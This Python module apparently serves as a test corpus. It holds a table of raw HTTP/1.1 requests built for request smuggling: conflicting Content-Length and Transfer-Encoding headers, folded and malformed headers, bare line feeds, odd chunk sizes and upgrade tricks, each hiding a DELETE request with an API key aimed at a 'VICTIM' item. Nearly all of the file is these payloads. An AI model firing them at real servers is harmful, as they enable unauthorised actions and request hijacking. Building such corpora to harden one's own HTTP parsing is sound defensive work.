"""Raw requests whose end two servers could see in different places, each hiding a second one. A table, no code.

`KEY` stands for a live API key and is as long as one, so that lengths hold.
"""

from __future__ import annotations

KEY = b"rheo_live_" + b"K" * 32
"""Replaced by a live key of the same length."""

PUT = (
    b"PUT /integration/v1/items/A1 HTTP/1.1\r\nHost: a\r\nx-api-key: "
    + KEY
    + b"\r\nContent-Type: application/json\r\n"
)
GET = b"GET /integration/v1/items/A1 HTTP/1.1\r\nHost: a\r\nx-api-key: " + KEY + b"\r\n"
HEALTH = b"GET /healthz HTTP/1.1\r\nHost: a\r\n"
INNER = b"DELETE /integration/v1/items/VICTIM HTTP/1.1\r\nHost: a\r\nx-api-key: " + KEY + b"\r\n\r\n"
"""What an attacker wants to be taken as a request of its own."""

N = len(INNER)
CL = b"Content-Length: %d\r\n"
TE = b"Transfer-Encoding: chunked\r\n"
END = b"0\r\n\r\n"
SMUGGLING: dict[str, bytes] = {
    "cl.te": PUT + CL % (len(END) + N) + TE + b"\r\n" + END + INNER,
    "te.cl": PUT + TE + CL % 4 + b"\r\n%x\r\n" % N + INNER + b"\r\n" + END,
    "te.cl short": PUT + TE + CL % len(END) + b"\r\n" + END + INNER,
    "double cl": PUT + CL % 0 + CL % N + b"\r\n" + INNER,
    "double cl rev": PUT + CL % N + CL % 0 + b"\r\n" + INNER,
    "cl list": PUT + b"Content-Length: 0, %d\r\n" % N + b"\r\n" + INNER,
    "same cl twice": PUT + CL % N + CL % N + b"\r\n" + INNER,
    "cl plus": PUT + b"Content-Length: +0\r\n\r\n" + INNER,
    "cl minus": PUT + b"Content-Length: -0\r\n\r\n" + INNER,
    "cl hex": PUT + b"Content-Length: 0x0\r\n\r\n" + INNER,
    "cl trailing": PUT + b"Content-Length: 0 1\r\n\r\n" + INNER,
    "cl underscore": PUT + b"Content-Length: 0_0\r\n\r\n" + INNER,
    "cl float": PUT + b"Content-Length: 0.0\r\n\r\n" + INNER,
    "cl empty": PUT + b"Content-Length: \r\n\r\n" + INNER,
    "cl space name": PUT + b"Content-Length : %d\r\n\r\n" % N + INNER,
    "cl overflow 2^64": PUT + b"Content-Length: 18446744073709551616\r\n\r\n" + INNER,
    "cl unicode": PUT + "Content-Length: \u0660\r\n\r\n".encode() + INNER,
    "cl nul": PUT + b"Content-Length: 0\x00\r\n\r\n" + INNER,
    "cl fold": PUT + b"Content-Length:\r\n 0\r\n\r\n" + INNER,
    "te fold": PUT + b"Transfer-Encoding:\r\n chunked\r\n" + CL % N + b"\r\n" + END + INNER,
    "te fold tab": PUT + b"Transfer-Encoding:\r\n\tchunked\r\n" + CL % len(END) + b"\r\n" + END + INNER,
    "te space": PUT + b"Transfer-Encoding : chunked\r\n" + CL % len(END) + b"\r\n" + END + INNER,
    "te vt": PUT + b"Transfer-Encoding: \x0bchunked\r\n" + CL % len(END) + b"\r\n" + END + INNER,
    "te nul": PUT + b"Transfer-Encoding: chunked\x00\r\n" + CL % len(END) + b"\r\n" + END + INNER,
    "te quoted": PUT + b'Transfer-Encoding: "chunked"\r\n' + CL % len(END) + b"\r\n" + END + INNER,
    "te list": PUT + b"Transfer-Encoding: identity, chunked\r\n" + CL % len(END) + b"\r\n" + END + INNER,
    "te rev": PUT + b"Transfer-Encoding: chunked, identity\r\n\r\n" + END + INNER,
    "te xchunked": PUT + b"Transfer-Encoding: xchunked\r\n" + CL % len(END) + b"\r\n" + END + INNER,
    "te twice": PUT + TE + TE + b"\r\n" + END + INNER,
    "te list chunked twice": PUT + b"Transfer-Encoding: chunked, chunked\r\n\r\n" + END + INNER,
    "te gzip": PUT + b"Transfer-Encoding: gzip\r\n\r\n" + INNER,
    "te comma": PUT + b"Transfer-Encoding: ,chunked\r\n\r\n" + END + INNER,
    "te params": PUT + b"Transfer-Encoding: chunked;a=b\r\n\r\n" + END + INNER,
    "te identity": PUT + b"Transfer-Encoding: identity\r\n" + CL % N + b"\r\n" + INNER,
    "te underscore": PUT + b"Transfer_Encoding: chunked\r\n" + CL % 3 + b"\r\n" + END + INNER,
    "te 1.0": PUT.replace(b"1.1", b"1.0") + TE + b"Connection: keep-alive\r\n\r\n" + END + INNER,
    "te 1.0 cl": PUT.replace(b"1.1", b"1.0")
    + TE
    + CL % len(END)
    + b"Connection: keep-alive\r\n\r\n"
    + END
    + INNER,
    "bare lf headers": (PUT + CL % 0 + b"\r\n").replace(b"\r\n", b"\n") + INNER,
    "bare lf one": PUT + b"X: a\nContent-Length: 0\r\n\r\n" + INNER,
    "bare lf end": PUT + b"Content-Length: %d\r\n\n" % 0 + INNER,
    "bare cr": PUT + b"X: a\rContent-Length: 0\r\n\r\n" + INNER,
    "bare cr end": PUT + b"Content-Length: 0\r\n\rX: y\r\n\r\n" + INNER,
    "lf in te": PUT + b"X: a\nTransfer-Encoding: chunked\r\n" + CL % N + b"\r\n" + END + INNER,
    "nul name": PUT + b"Content-\x00Length: 0\r\n\r\n" + INNER,
    "chunk huge": PUT + TE + b"\r\n" + b"f" * 17 + b"\r\n" + INNER,
    "chunk wraps 64": PUT + TE + b"\r\n1" + b"0" * 16 + b"\r\n\r\n" + END + INNER,
    "chunk neg": PUT + TE + b"\r\n-0\r\n\r\n" + INNER,
    "chunk 0x": PUT + TE + b"\r\n0x0\r\n\r\n" + INNER,
    "chunk space": PUT + TE + b"\r\n0 \r\n\r\n" + INNER,
    "chunk space before": PUT + TE + b"\r\n 0\r\n\r\n" + INNER,
    "chunk tab": PUT + TE + b"\r\n0\t\r\n\r\n" + INNER,
    "chunk lf": PUT + TE + b"\r\n0\n\n" + INNER,
    "chunk lf2": PUT + TE + b"\r\n2\n{}\r\n0\r\n\r\n" + INNER,
    "chunk ext lf": PUT + TE + b"\r\n0;a\nb\r\n\r\n" + INNER,
    "chunk ext cr": PUT + TE + b"\r\n0;a\rb\r\n\r\n" + INNER,
    "chunk ext nul": PUT + TE + b"\r\n0;a\x00\r\n\r\n" + INNER,
    "chunk ext quoted": PUT + TE + b'\r\n2;a="\r\n{}\r\n0;"\r\n\r\n' + INNER,
    "chunk no crlf": PUT + TE + b"\r\n2\r\n{}0\r\n\r\n" + INNER,
    "chunk extra": PUT + TE + b"\r\n2\r\n{}XX\r\n0\r\n\r\n" + INNER,
    "chunk two": PUT + TE + b"\r\n2\r\n{}\n0\n\n" + INNER,
    "chunk plus": PUT + TE + b"\r\n+0\r\n\r\n" + INNER,
    "chunk underscore": PUT + TE + b"\r\n0_0\r\n\r\n" + INNER,
    "chunk unicode": PUT + TE + "\r\n\u0660\r\n\r\n".encode() + INNER,
    "chunk empty size": PUT + TE + b"\r\n\r\n\r\n" + INNER,
    "trailer cl": PUT + TE + b"\r\n0\r\nContent-Length: %d\r\n\r\n" % N + INNER,
    "trailer te": PUT + TE + b"\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n" + INNER,
    "trailer bare lf": PUT + TE + b"\r\n0\r\nX: a\n\n" + INNER,
    "get body": GET + CL % N + b"\r\n" + INNER,
    "healthz body": HEALTH + CL % N + b"\r\n" + INNER,
    "h2c": HEALTH + b"Connection: Upgrade\r\nUpgrade: h2c\r\n" + CL % N + b"\r\n" + INNER,
    "ws": HEALTH
    + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==\r\n\r\n"
    + INNER,
    "connect": b"CONNECT a:443 HTTP/1.1\r\nHost: a\r\n\r\n" + INNER,
    "expect": PUT + b"Expect: 100-continue\r\n" + CL % N + b"\r\n" + INNER,
    "401 body": PUT.replace(b"KKKK", b"nono") + CL % N + b"\r\n" + INNER,
    "415 body": PUT.replace(b"/json", b"/xml") + CL % N + b"\r\n" + INNER,
    "header LF split path": b"GET /healthz\nX HTTP/1.1\r\nHost: a\r\n" + CL % N + b"\r\n" + INNER,
    "leading ws line": b"GET /healthz HTTP/1.1\r\n Content-Length: 0\r\nHost: a\r\n"
    + CL % N
    + b"\r\n"
    + INNER,
    "version junk": b"GET /healthz HTTP/1.1x\r\nHost: a\r\n\r\n" + INNER,
    "0.9": b"GET /healthz\r\n" + INNER,
    "get body length and chunks": GET + CL % (N + len(END)) + TE + b"\r\n" + END + INNER,
    "head with body": GET.replace(b"GET", b"HEAD") + CL % N + b"\r\n" + INNER,
    "delete with chunks": GET.replace(b"GET", b"DELETE") + TE + b"\r\n%x\r\n" % N + INNER + b"\r\n" + END,
    "unknown route with body": HEALTH.replace(b"healthz", b"nowhere") + CL % N + b"\r\n" + INNER,
    "413 unread": PUT + CL % (300_000 + N) + b"\r\n" + INNER,
    "te tab chunked": PUT + b"Transfer-Encoding:\tchunked\t\r\n" + CL % len(END) + b"\r\n" + END + INNER,
    "content_length": PUT + b"Content_Length: %d\r\n\r\n" % N + INNER,
}
